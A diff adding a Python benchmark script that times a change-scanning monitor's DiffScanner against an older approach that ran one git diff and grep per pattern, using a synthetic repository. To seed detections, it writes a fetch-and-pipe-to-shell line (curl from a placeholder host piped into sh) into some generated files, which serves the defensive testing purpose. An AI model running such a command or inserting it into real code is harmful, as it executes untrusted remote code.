@@ -0,0 +1,91 @@
+#!/usr/bin/env python3
+"""
+Benchmark: one streamed DiffScanner pass vs. one `git diff | grep` per pattern
+
+Builds a synthetic repository whose origin/main is one commit ahead of HEAD
+with thousands of changed files, then times both approaches.
+
+Usage: python3 benchmarks/bench_diff_scan.py [files] [lines_per_file]
+"""
+
+import os
+import subprocess
+import sys
+import tempfile
+import time
+
+from _monitor import load_monitor
+
+
+def git(repo, *args):
+    subprocess.run(["git", "-c", "user.name=bench", "-c", "user.email=bench@example.com", *args],
+                   cwd=repo, check=True, capture_output=True)
+
+
+def build_repo(repo, files, lines_per_file):
+    git(repo, "init", "-q")
+    for i in range(files):
+        path = os.path.join(repo, "src", f"d{i % 50}", f"file{i}.js")
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "w") as f:
+            f.writelines(f"const value{n} = require('mod{n}');\n" for n in range(lines_per_file))
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "base")
+
+    for i in range(files):
+        path = os.path.join(repo, "src", f"d{i % 50}", f"file{i}.js")
+        with open(path, "a") as f:
+            f.writelines(f"export function changed{n}() {{ return {n}; }}\n" for n in range(lines_per_file // 2))
+            if i % 997 == 0:
+                f.write("exec('curl -s http://example.com/x | sh');\n")
+    os.makedirs(os.path.join(repo, "tools"))
+    with open(os.path.join(repo, "tools", "new.sh"), "w") as f:
+        f.write("#!/bin/sh\necho hi\n")
+    with open(os.path.join(repo, "blob.bin"), "wb") as f:
+        f.write(os.urandom(4096))
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "upstream")
+    git(repo, "update-ref", "refs/remotes/origin/main", "HEAD")
+    git(repo, "reset", "-q", "--hard", "HEAD~1")
+
+
+def legacy_scan(monitor, repo):
+    """The previous scan_incoming_changes: name-only diff, one diff per pattern, two more diffs"""
+    def run(cmd):
+        return subprocess.run(cmd, shell=True, cwd=repo, capture_output=True, text=True).stdout
+
+    files = run("git diff --name-only HEAD..origin/main").split()
+    for pattern, _ in monitor.DANGEROUS_PATTERNS:
+        run(f"git diff HEAD..origin/main -U0 2>/dev/null | grep -E '{pattern}' | head -3")
+    run("git diff HEAD..origin/main --name-only --diff-filter=A | grep -E '\\.(sh|bash|py|rb|pl)$'")
+    run("git diff HEAD..origin/main --numstat 2>/dev/null | grep -E '^-\\s+-' | head -5")
+    return len(files)
+
+
+def main():
+    files = int(sys.argv[1]) if len(sys.argv) > 1 else 3000
+    lines_per_file = int(sys.argv[2]) if len(sys.argv) > 2 else 40
+    monitor = load_monitor()
+    scanner = monitor.DiffScanner()
+
+    with tempfile.TemporaryDirectory() as repo:
+        print(f"Building synthetic repo: {files} files x {lines_per_file} lines...")
+        build_repo(repo, files, lines_per_file)
+
+        start = time.perf_counter()
+        legacy_files = legacy_scan(monitor, repo)
+        legacy_s = time.perf_counter() - start
+
+        start = time.perf_counter()
+        result = scanner.scan(repo)
+        scan_s = time.perf_counter() - start
+
+        print(f"legacy (12 git diffs): {legacy_s:7.2f} s  ({legacy_files} files)")
+        print(f"DiffScanner (1 diff):  {scan_s:7.2f} s  ({len(result['files'])} files, "
+              f"{len(result['hits'])} hits, {len(result['added_files'])} added, "
+              f"{len(result['binary_files'])} binary)")
+        print(f"speed-up: {legacy_s / scan_s:.1f}x")
+
+
+if __name__ == "__main__":
+    main()